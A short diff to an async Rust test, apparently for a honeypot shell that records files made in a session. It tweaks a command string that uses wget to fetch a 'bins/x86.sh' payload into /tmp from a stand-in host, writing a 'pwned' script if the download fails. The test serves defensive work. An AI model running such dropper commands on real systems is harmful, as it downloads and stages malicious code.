@@ -38,7 +38,7 @@ async fn a_session_leaves_every_file_it_made_in_the_store() {
     // the same name written by the shell: the file is labelled with the URL.
     shell
         .run(
-            "cd /tmp; wget -q -T 1 http://198.51.100.9/bins/x86.sh || printf '#!/bin/sh\\necho pwned\\n' > x86.sh; cd",
+            "cd /tmp; wget -q -T 1 -t 1 http://198.51.100.9/bins/x86.sh || printf '#!/bin/sh\\necho pwned\\n' > x86.sh; cd",
             ROOT_PROMPT,
         )
         .await;
